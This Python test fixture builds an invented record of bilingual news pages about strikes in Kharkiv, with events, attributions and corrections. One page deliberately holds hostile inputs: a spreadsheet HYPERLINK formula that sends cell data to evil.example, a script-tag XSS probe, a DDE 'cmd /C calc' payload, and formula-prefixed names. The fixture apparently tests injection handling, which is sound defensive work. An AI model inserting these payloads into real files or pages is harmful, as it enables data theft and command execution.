"""A small record made by hand: an invented week, six pages in two languages, nine events, and a page that
tries what a hostile page can.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from typing import Any

from seuil.article.model import Article, Span, TextSpan, When
from seuil.assertion.model import Assertion, Attribution
from seuil.brief.model import Brief, PageRecord, TimeRecord
from seuil.errors import UsageError
from seuil.event.model import (
    Account,
    Correction,
    Difference,
    EntityRow,
    Event,
    Family,
    FindingRow,
    Member,
    Mention,
    Merge,
    PageRow,
    Said,
    Standing,
    Voice,
    event_id,
    page_key,
)
from seuil.reading.model import Entity

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE = (
    "<script>alert(1)</script> \u202eesrever\u202c & </text> \x00\x07 \ud83d".replace("\ud83d", "")
    + "@SUM(1+1)*cmd|' /C calc'!A0"
)
LONG = "+" + "longue \U0001f680 phrase " * 3000


def when(earliest: str | None, latest: str | None = None, basis: str = "stated") -> When:
    latest = latest or earliest
    edtf = earliest if earliest == latest and earliest else f"{earliest or '..'}/{latest or '..'}"
    return When(edtf=edtf, earliest=earliest, latest=latest, basis=basis, because="test")


def at(text: str, words: str) -> TextSpan:
    start = text.index(words)
    return TextSpan(start=start, end=start + len(words), text=words)


def assertion(text: str, number: int, trigger: str, sentence: str, act: str, **fields: Any) -> Assertion:
    base = {
        "id": f"e{number}",
        "act": act,
        "plover": "ASSAULT",
        "cameo": "190",
        "status": "happened",
        "polarity": "affirmed",
        "certainty": "certain",
        "trigger": at(text, trigger),
        "evidence": at(text, sentence),
    }
    return Assertion.model_validate({**base, **fields})


def attribution(text: str, cue: str, content: str, source: str | None, name: str, stance: str) -> Attribution:
    said = at(text, content)
    return Attribution(
        id="a1",
        source=source,
        description=name,
        anonymous=source is None,
        cue=at(text, cue),
        stance=stance,
        quotation="indirect",
        content=(Span(start=said.start, end=said.end),),
    )


ENTITIES = (
    EntityRow(id="BLR", name="Belarus", kind="state"),
    EntityRow(id="NATO", name="NATO", kind="alliance"),
    EntityRow(id="RUS", name="Russia", kind="state"),
    EntityRow(id="UKR", name="Ukraine", kind="state"),
    EntityRow(id="USA", name="United States", kind="state"),
    EntityRow(id="ballistic-missile", name="ballistic missile", kind="weapon"),
    EntityRow(id="drone", name="drone", kind="weapon"),
    EntityRow(id="grom-brigade", name="=Grom+Brigade", kind="group", country="UKR"),
    EntityRow(id="ihor-melnyk", name="Ihor Melnyk", kind="person", country="UKR"),
    EntityRow(id="kharkiv", name="Kharkiv", kind="city", country="UKR"),
    EntityRow(id="kursk-oblast", name="Kursk Oblast", kind="region", country="RUS"),
    EntityRow(id="le-courrier", name="Le Courrier", kind="medium", country="FRA"),
    EntityRow(id="minsk", name="Minsk", kind="city", country="BLR"),
    EntityRow(id="nowhere-hill", name="Nowhere Hill", kind="city", country="UKR"),
    EntityRow(id="rus-armed-forces", name="Russian armed forces", kind="armed-force", country="RUS"),
    EntityRow(id="rus-defence-ministry", name="Russian defence ministry", kind="government", country="RUS"),
)


def brief(
    source: str, title: str, paragraphs: list[str], language: str, outlet: str | None, published: When | None
) -> dict[str, Any]:
    """The parts of a page that are the same for all, before what it asserts."""
    text = "\n".join((title, *paragraphs))
    spans, offset = [], len(title) + 1
    for paragraph in paragraphs:
        spans.append(Span(start=offset, end=offset + len(paragraph)))
        offset += len(paragraph) + 1
    sha256 = hashlib.sha256(text.encode()).hexdigest()
    return {
        "version": "0.1.0",
        "page": PageRecord(source=source, media_type="text/html", sha256=sha256, bytes=len(text.encode())),
        "article": Article(
            title=title,
            language=language,
            outlet=outlet,
            url=source if source.startswith("http") else None,
            published=published,
            text=text,
            title_span=Span(start=0, end=len(title)),
            paragraphs=tuple(spans),
        ),
        "entities": tuple(
            Entity.model_validate(
                {
                    **row.model_dump(),
                    "mentions": [at(text, row.name)] if row.name in text else [],
                }
            )
            for row in ENTITIES
        ),
        "assertions": (),
        "attributions": (),
        "commitments": (),
        "times": (),
        "set_aside": (),
    }


def _briefs() -> list[Brief]:
    first = brief(
        "https://agency.example/kharkiv-1",
        "Missile hits depot in Kharkiv \U0001f680",
        [
            "Russia fired a ballistic missile at a depot in Kharkiv on Monday, Ihor Melnyk said.",
            "Twelve people were wounded. Belarus will send troops to Minsk next week.",
        ],
        "en",
        "Agency One",
        when("2024-11-18"),
    )
    text = first["article"].text
    struck = text.split("\n")[1]
    first["attributions"] = (attribution(text, "said", struck[:68], "ihor-melnyk", "Ihor Melnyk", "says"),)
    first["times"] = (
        TimeRecord(
            **at(text, "Monday").model_dump(),
            edtf="2024-11-18",
            earliest="2024-11-18",
            latest="2024-11-18",
            basis="relative",
            because="test",
        ),
    )
    monday = when("2024-11-18", basis="relative")
    roles = {
        "actor": ("RUS",),
        "target": ("UKR",),
        "instrument": ("ballistic-missile",),
        "place": ("kharkiv",),
    }
    first["assertions"] = (
        assertion(
            text, 1, "fired", struck, "launch-weapon", cameo="195", when=monday, sources=("a1",), **roles
        ),
        assertion(text, 2, "wounded", "Twelve people were wounded.", "wound", actor=("RUS",), when=monday),
        assertion(
            text,
            3,
            "send troops",
            "Belarus will send troops to Minsk next week.",
            "deploy",
            plover="MOBILIZE",
            cameo="154",
            actor=("BLR",),
            place=("minsk",),
            status="planned",
            when=when("2024-11-25", "2024-12-01", "relative"),
        ),
    )
    second = brief(
        "https://courrier.example/a/2",
        "Kharkiv : un missile frappe un dépôt",
        ["La Russie a tiré un missile balistique contre un dépôt de Kharkiv lundi, selon Ihor Melnyk."],
        "fr",
        "Le Courrier",
        when("2024-11-18"),
    )
    text = second["article"].text
    struck = text.split("\n")[1]
    second["attributions"] = (attribution(text, "selon", struck[:71], "ihor-melnyk", "Ihor Melnyk", "says"),)
    second["assertions"] = (
        assertion(
            text, 1, "tiré", struck, "launch-weapon", cameo="195", when=monday, sources=("a1",), **roles
        ),
    )
    third = brief(
        "https://daily.example/3",
        "Drone raid denied",
        [
            "The Russian defence ministry denied that a drone was launched at Kharkiv from Kursk Oblast.",
            "If NATO strikes Russia, Moscow would respond, an official warned. "
            "Washington called for talks in Geneva.",
        ],
        "en",
        "Daily Three",
        when("2024-11-19", "2024-11-20"),
    )
    text = third["article"].text
    lines = text.split("\n")
    third["attributions"] = (
        attribution(
            text,
            "denied that",
            lines[1][35:-1],
            "rus-defence-ministry",
            "The Russian defence ministry",
            "denies",
        ),
    )
    third["assertions"] = (
        assertion(
            text,
            1,
            "launched",
            lines[1],
            "launch-weapon",
            cameo="195",
            target=("UKR",),
            instrument=("drone",),
            place=("kharkiv", "kursk-oblast"),
            polarity="negated",
            certainty="unknown",
            sources=("a1",),
            when=when("2024-11-17", "2024-11-19", "inferred"),
        ),
        assertion(
            text,
            2,
            "strikes",
            "If NATO strikes Russia, Moscow would respond, an official warned.",
            "strike",
            actor=("NATO",),
            target=("RUS",),
            status="hypothetical",
            certainty="possible",
        ),
        assertion(
            text,
            3,
            "called for",
            "Washington called for talks in Geneva.",
            "request",
            plover="REQUEST",
            cameo="022",
            actor=("USA",),
            target=("RUS", "UKR"),
            place=("geneva",),
            when=when(None, "2024-11-20", "publication"),
        ),
    )
    fourth = brief(
        "news.jsonl:12",
        HOSTILE_TITLE,
        [HOSTILE, LONG, "-12", "Fighting went on at Nowhere Hill. Une loi fut adoptée."],
        "en",
        "@Outlet",
        None,
    )
    text = fourth["article"].text
    fourth["assertions"] = (
        assertion(
            text,
            1,
            "cmd",
            HOSTILE,
            "kill",
            actor=("grom-brigade",),
            place=("nowhere-hill",),
            certainty="probable",
        ),
        assertion(
            text,
            2,
            "longue",
            LONG,
            "clash",
            status="ongoing",
            place=("nowhere-hill",),
            when=when("2024-11-16", "2024-11-30"),
        ),
        assertion(
            text,
            3,
            "adoptée",
            "Une loi fut adoptée.",
            "adopt-doctrine-or-law",
            plover=None,
            cameo="015",
            actor=("RUS",),
            when=when("2024-11-19"),
        ),
    )
    copies = [
        brief(source, first["article"].title, first["article"].text.split("\n")[1:], "en", outlet, when(day))
        for source, outlet, day in (
            ("copy/5.html", "Evening Five", "2024-11-19"),
            ("copy/6.html", None, "2024-11-19"),
        )
    ]
    for copy in copies:
        copy.update({k: first[k] for k in ("assertions", "attributions", "times")})
    return [Brief.model_validate(b) for b in (first, second, third, fourth, *copies)]


BRIEFS = _briefs()
KEYS = [page_key(b.page.source, b.page.sha256) for b in BRIEFS]


def _mention(page: str, brief: Brief, a: Assertion) -> Mention:
    voices = tuple(
        Voice(source=s.source, name=s.description, stance=s.stance, anonymous=s.anonymous)
        for i in a.sources
        for s in brief.attributions
        if s.id == i
    )
    published = brief.article.published
    same = {name: getattr(a, name) for name in Mention.model_fields if name in Assertion.model_fields}
    return Mention.model_validate(
        {
            **same,
            "key": f"{page}@{a.trigger.start}",
            "page": page,
            "assertion": a.id,
            "language": brief.article.language,
            "outlet": brief.article.outlet,
            "known": published.latest if published else None,
            "voices": voices,
            "numbers": (12.0,) if a.act == "wound" else (-3.5,) if a.act == "kill" else (),
            "trigger": a.trigger.text,
            "start": a.trigger.start,
            "end": a.trigger.end,
            "sentence": a.evidence.text,
        }
    )


MENTIONS = [_mention(k, b, a) for k, b in zip(KEYS, BRIEFS, strict=True) for a in b.assertions]


def _account(mentions: list[Mention], family: str, agency: str | None = None) -> Account:
    first = mentions[0]
    return Account(
        family=family,
        original=family,
        outlet=first.outlet,
        agency=agency,
        known=first.known,
        pages=tuple(sorted({m.page for m in mentions})),
        mentions=tuple(m.key for m in mentions),
        voices=first.voices,
        words=first.sentence,
    )


def _event(accounts: list[Account], mentions: list[Mention], **fields: Any) -> Event:
    first = mentions[0]
    same = {name: getattr(first, name) for name in Event.model_fields if name in Mention.model_fields}
    same.pop("content_of")
    return Event.model_validate(
        {
            **same,
            "id": event_id(first.key),
            "accounts": tuple(accounts),
            "mentions": tuple(m.key for m in mentions),
            "history": (
                Standing(
                    since=first.known or "2024-11-20",
                    status=first.status,
                    polarity=first.polarity,
                    certainty=first.certainty,
                    reports=len(accounts),
                    because="first account",
                ),
            ),
            **fields,
        }
    )


def _events() -> list[Event]:
    by = {(KEYS.index(m.page), m.assertion): m for m in MENTIONS}
    agency = [by[0, "e1"], by[4, "e1"], by[5, "e1"]]
    launch = _event(
        [_account(agency, KEYS[0], "Agency One"), _account([by[1, "e1"]], KEYS[1])],
        [*agency, by[1, "e1"]],
        confirmed=True,
        differences=(
            Difference(
                field="instrument",
                said=(
                    Said(value=("ballistic-missile",), families=(KEYS[0],)),
                    Said(value=("drone",), families=(KEYS[1],)),
                ),
            ),
        ),
        history=(
            Standing(
                since="2024-11-18",
                status="happened",
                polarity="affirmed",
                certainty="probable",
                reports=1,
                because="Agency One: says",
            ),
            Standing(
                since="2024-11-25",
                status="happened",
                polarity="affirmed",
                certainty="certain",
                reports=2,
                confirmed=True,
                because="confirmed on the record",
            ),
        ),
        merges=(
            Merge(mention=by[1, "e1"].key, to=by[0, "e1"].key, because=("same act", "same day"), by="=Ann"),
        ),
    )
    wound = [by[n, "e2"] for n in (0, 4, 5)]
    deploy = [by[n, "e3"] for n in (0, 4, 5)]
    rest = [by[2, "e1"], by[2, "e2"], by[2, "e3"], by[3, "e1"], by[3, "e2"], by[3, "e3"]]
    events = [
        launch,
        _event([_account(wound, KEYS[0], "Agency One")], wound, content_of=launch.id, numbers=(12.0,)),
        _event([_account(deploy, KEYS[0], "Agency One")], deploy),
        *(_event([_account([m], m.page)], [m]) for m in rest),
    ]
    events[3] = events[3].model_copy(update={"doubtful": (launch.id,)})
    return sorted(events, key=lambda e: (e.when.earliest or "" if e.when else "9999", e.id))


EVENTS = _events()
_COPIES = {KEYS[4]: "exact", KEYS[5]: "trimmed"}


def _judgements() -> list[Correction]:
    """What persons said of single assertions: accepted, set, set and then accepted, rejected, taken back."""
    fired, wounded, deployed = (m.key for m in MENTIONS[:3])
    by_act = {m.act: m.key for m in MENTIONS}
    decided: list[tuple[str, dict[str, Any]]] = [
        ("accept", {"mentions": (fired,)}),
        ("set", {"mentions": (wounded,), "field": "target", "values": ("UKR",)}),
        ("set", {"mentions": (deployed,), "field": "when", "values": ("2024-11-25",)}),
        ("accept", {"mentions": (deployed,)}),
        ("reject", {"mentions": (by_act["kill"],)}),
        ("set", {"mentions": (by_act["strike"],), "field": "act", "values": ("attack",)}),
        ("reject", {"mentions": (by_act["request"],), "undone": True}),
        ("accept", {"mentions": ("ffffffffffff@1",)}),
    ]
    signed = {"by": "=Ann", "reason": "<i>read</i>", "made": "2024-12-02T10:00:00Z"}
    return [
        Correction.model_validate({"number": n, "kind": kind, **about, **signed})
        for n, (kind, about) in enumerate(decided, 2)
    ]


class HandRecord:
    """``Record``, from the lists above."""

    def events(self) -> Iterator[Event]:
        return iter(EVENTS)

    def mentions(self) -> Iterator[Mention]:
        return iter(sorted(MENTIONS, key=lambda m: (m.page, m.start)))

    def pages(self) -> Iterator[PageRow]:
        rows = [
            PageRow(
                key=key,
                source=b.page.source,
                url=b.article.url,
                sha256=b.page.sha256,
                media_type=b.page.media_type,
                bytes=b.page.bytes,
                title=b.article.title,
                language=b.article.language,
                outlet=b.article.outlet,
                published=b.article.published,
                version=b.version,
                family=KEYS[0] if key in _COPIES else key,
                kinship=_COPIES.get(key, "original"),
                copy_of=KEYS[0] if key in _COPIES else None,
            )
            for key, b in zip(KEYS, BRIEFS, strict=True)
        ]
        return iter(sorted(rows, key=lambda r: r.key))

    def families(self) -> Iterator[Family]:
        found = []
        for key in KEYS[:4]:
            members = [Member(page=key, kinship="original")]
            if key == KEYS[0]:
                members += [
                    Member(page=p, kinship=k, of=key, like=0.97, because="same words")
                    for p, k in _COPIES.items()
                ]
            agency = "Agency One" if key == KEYS[0] else None
            found.append(Family(id=key, original=key, agency=agency, members=tuple(members)))
        return iter(sorted(found, key=lambda f: f.id))

    def findings(self) -> Iterator[FindingRow]:
        by_key = {key: e.id for e in EVENTS for key in e.mentions}
        strikes = next(m for m in MENTIONS if m.act == "strike")
        launch = next(m for m in MENTIONS if m.act == "launch-weapon")
        return iter(
            [
                FindingRow(
                    doctrine="rus-2024",
                    clause="19d",
                    relation=relation,
                    mention=m.key,
                    page=m.page,
                    event=by_key[m.key],
                    matched=("act: strike", "=1+1"),
                    to_judge=("critical threat to <sovereignty>",),
                    because="the act and the target fit",
                )
                for m, relation in ((strikes, "would-fall-under"), (launch, "disputed"))
            ]
        )

    def entities(self) -> Iterator[EntityRow]:
        return iter(ENTITIES)

    def corrections(self) -> Iterator[Correction]:
        return iter(
            [
                Correction(
                    number=1,
                    kind="merge",
                    mentions=EVENTS[0].mentions[:2],
                    by="=Ann",
                    reason="one <b>strike</b>",
                    made="2024-12-01T10:00:00Z",
                ),
                *_judgements(),
            ]
        )

    def brief(self, page: str) -> Brief:
        if page not in KEYS:
            raise UsageError(f"{page}: no such page")
        return BRIEFS[KEYS.index(page)]


class EmptyRecord(HandRecord):
    """A dossier in which nothing is yet."""

    def events(self) -> Iterator[Event]:
        return iter(())

    mentions = pages = families = findings = entities = corrections = events
